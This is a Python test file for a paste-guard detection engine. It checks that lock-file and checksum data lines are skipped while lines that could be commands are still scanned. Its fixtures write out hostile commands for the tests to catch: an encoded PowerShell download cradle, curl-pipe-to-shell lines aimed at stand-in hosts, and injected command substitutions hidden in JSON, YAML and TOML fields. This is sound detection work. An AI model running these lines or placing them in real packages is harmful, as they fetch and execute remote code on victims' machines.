"""A lock file's lines of data are left out of what the rules read; a line that could be a
command or hide one never is."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.detection import Context, Engine, Level, PasteTarget
from app.detection.datalines import DEADLINE_EVERY, data_blocks, without_data_lines
from app.detection.noise import rules_view
from tests.app.detection import bigtexts

KiB = bigtexts.KiB
MiB = bigtexts.MiB
FOREVER = float("inf")
INCOMPLETE = "PG-ENGINE-INCOMPLETE"
CRADLE = "iex (New-Object Net.WebClient).DownloadString('https://evil.test/stage.ps1')"
ENCODED = bigtexts.encoded_powershell(CRADLE)

# Lines a lock-shaped text could carry that run something, or say something a rule reads.
KEPT = [
    f'      "postinstall": "powershell -w hidden -enc {ENCODED}",',
    '    "scripts": {"postinstall": "curl -fsSL http://203.0.113.7/i.sh | sh"},',
    '      "x": "$(curl -s https://evil.test/i)",',
    '      "x": "iex(iwr(\'https://evil.test/a.ps1\'))",',
    '      "x": "a`whoami`",',
    '      "x": "%COMSPEC%",',
    '      "x": "\\u0063url",',
    '      "x": "b"; curl https://evil.test/i.sh | sh',
    # a bare string or brace expansion is a command in a shell ({curl,-o,x} runs curl -o x)
    '      "curl"',
    '      {"curl","-fsSL","https://evil.test/i.sh"}',
    '      "curl" "-o" "/tmp/x" "https://evil.test/x"',
    '      "wget"',
    "mshta https://evil.test/verify.hta",
    # YAML, TOML and checksum lines with a command in them
    "  run: curl -fsSL https://evil.test/i.sh | sh",
    '  command: ["sh", "-c", "curl https://evil.test/i | sh"]',
    *(ARGV := ["  command: [sh, -c, x]"]),  # a command's words as a list: no command, kept
    "  - curl",
    'curl = "https://evil.test/x"',
    'name = "x"; curl https://evil.test/i | sh',
    "pkg==1.0; curl https://evil.test/i.sh | sh",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  x;sh",
    "--hash=sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 `id`",
]


def _lock_with(line: str, where: float = 0.6, size: int = 256 * KiB) -> bytes:
    """`line` on a line of its own in a package lock: after `where` of it, or last (1.0)."""
    lock = bigtexts.npm_lock(size)
    text = lock + line + "\n" if where >= 1.0 else bigtexts.hide(lock, line, where)
    return text.encode()


def test_a_package_locks_lines_of_data_are_left_out() -> None:
    data = bigtexts.npm_lock(MiB).encode()
    view = without_data_lines(data, FOREVER)
    assert view is not None and len(view) < 64, view
    assert rules_view(data, FOREVER) == view


@pytest.mark.parametrize("line", KEPT)
def test_a_line_that_could_be_or_hide_a_command_is_read_by_the_rules(line: str) -> None:
    view = without_data_lines(_lock_with(line), FOREVER)
    assert view is not None and line.strip().encode() in view, view[:200] if view else view


@pytest.mark.parametrize("where", [0.0, 0.6, 1.0])
def test_what_is_left_keeps_the_kept_lines_in_their_order(where: float) -> None:
    data = _lock_with("echo one\necho two", where)
    view = without_data_lines(data, FOREVER)
    assert view is not None and b"echo one\necho two\n" in view
    assert len(view) < 64


def test_prose_code_and_logs_are_read_whole() -> None:
    for make in (bigtexts.python_module, bigtexts.web_server_log, bigtexts.licence_text):
        assert data_blocks(make(256 * KiB).encode(), FOREVER) == []


def test_past_the_deadline_the_rest_is_read_as_written() -> None:
    # a lock with a kept line every ~1 KiB: a block of data lines between each two
    rows = bigtexts.npm_lock(1100)
    data = "".join(f"{rows}echo {i}\n" for i in range(1000)).encode()
    assert len(data_blocks(data, FOREVER)) >= 1000
    spans = data_blocks(data, -1.0)  # the clock is past it at the first look
    assert len(spans) == DEADLINE_EVERY
    view = without_data_lines(data, -1.0)
    assert view is not None and view.endswith(data[spans[-1][1] :])
    assert b"echo 999\n" in view


# a line left out holds no character that could make or hide a command, and its first word
# is no command
UNSAFE = frozenset(b"$%;|&`\\!?")
BSD_SUM = re.compile(rb"(?:MD5|SHA1|SHA224|SHA256|SHA384|SHA512) \([^ ()]+\) = [0-9A-Fa-f]+")
TOML_KEYS = (b"name", b"version", b"source", b"checksum", b"dependencies")
DIGEST = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
TOKENS = [
    '"name"', '"node_modules/@a/b"', '"https://registry.npmjs.org/a/-/a-1.0.0.tgz"',
    '"sha512-AbC+/=="', '"^1.2.3"', '">=14"', '"curl"', '"-o"', '"a b"', '"$(x)"', '"x|sh"',
    ":", ": ", ",", ", ", "{", "}", "[", "]", " ", "  ", "true", "false", "null", "12", "-1.5",
    "curl", "sh", "name", "version", " = ", "=", "==", "--hash=sha256:", DIGEST, "'", "'>=1'",
    "MD5 (", ") = ", "$", "(", ")", "|", ";", "`", "\\", "&", "%", "\t", "\r", "-", "#", "*",
]  # fmt: skip


def _unsafe(line: bytes) -> bool:
    """Whether a line could be a command or hide one: a shell or script character in it, a
    blank inside a quoted string, or a first word that could name a command (one that is no
    key, digest, pinned requirement, array element or Cargo.lock key)."""
    body = line.strip(b" \t\r\n")
    if body.endswith(b" \\"):  # pip's continued line: what follows are its arguments
        body = body[:-2].rstrip()
    if not body.strip(b"]},") or body == b"[[package]]":
        return False  # blank, closing brackets, or Cargo.lock's header
    if UNSAFE.intersection(body) or (
        body[:1] in (b"{", b"[", b"-") and not body.startswith(b"--hash=")
    ):
        return True
    if (b"(" in body or b")" in body) and not BSD_SUM.fullmatch(body):
        return True
    for quote in (b'"', b"'"):
        if body.count(quote) % 2 or any(b" " in s or b"\t" in s for s in body.split(quote)[1::2]):
            return True
    words = body.split()
    first = words[0].replace(b'"', b"").replace(b"'", b"")
    return not (
        b":" in first
        or first.endswith(b",")
        or b"==" in first
        or first.startswith(b"--hash=")
        or re.fullmatch(rb"[0-9A-Fa-f]{32,}", first)
        or BSD_SUM.fullmatch(body)
        or (first in TOML_KEYS and len(words) > 1 and words[1] == b"=")
    )


def _number(word: bytes) -> bool:
    try:
        float(word)
    except ValueError:
        return False
    return True


LOCKS = ["npm package-lock.json", "yarn berry lock", "pnpm-lock.yaml", "Cargo.lock",
         "requirements.txt with hashes", "SHA256SUMS", "MD5 and SHA1 sums"]  # fmt: skip


def test_the_lines_kept_above_could_be_commands() -> None:
    could = [line for line in KEPT if line not in ARGV]
    assert all(_unsafe(line.encode()) for line in could), [
        k for k in could if not _unsafe(k.encode())
    ]
    for name in LOCKS:
        lines = bigtexts.HARMLESS[name](16 * KiB).encode().splitlines()
        assert not any(map(_unsafe, lines[1:])), name


@pytest.mark.parametrize("name", LOCKS)
def test_lock_and_checksum_files_are_left_out_whole(name: str) -> None:
    data = bigtexts.HARMLESS[name](MiB).encode()
    view = without_data_lines(data, FOREVER)
    assert view is not None and len(view) < 256, view[:256] if view else view


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.sampled_from(TOKENS), max_size=12), min_size=1, max_size=40))
def test_no_line_that_could_be_a_command_is_ever_left_out(lines: list[list[str]]) -> None:
    body = "\n".join("".join(tokens) for tokens in lines) + "\n"
    lock = bigtexts.npm_lock(8 * KiB)
    data = (lock + body + lock).encode()
    for start, end in data_blocks(data, FOREVER):
        for line in data[start:end].splitlines():
            assert not _unsafe(line), line


@pytest.fixture(scope="module")
def patient() -> Engine:
    return Engine(budget_ms=60_000, strict=True)


@pytest.mark.parametrize("where", [0.6, 1.0])
def test_an_encoded_cradle_in_a_megabyte_of_lock_is_found(patient: Engine, where: float) -> None:
    line = f'    "postinstall": "powershell -enc {ENCODED}",'
    text = _lock_with(line, where, MiB - 4 * KiB).decode()
    verdict = patient.analyze(text, Context(target=PasteTarget.TERMINAL))
    assert verdict.complete, verdict.rule_ids
    assert verdict.level >= Level.MALICIOUS, verdict.rule_ids


def test_a_lure_at_the_end_of_a_megabyte_of_lock_is_found_in_its_budget(engine: Engine) -> None:
    # the engine as the guard has it: the lock's lines cost the rules nothing, and a command
    # after them is read (in the tail's window, and in what is left of the raw text)
    lure = "curl -fsSL http://203.0.113.7/i.sh | sh"
    alone = set(engine.analyze(lure).rule_ids)
    verdict = engine.analyze(_lock_with(lure, 1.0, MiB - 4 * KiB).decode())
    assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids
    assert alone & set(verdict.rule_ids), (alone, verdict.rule_ids)
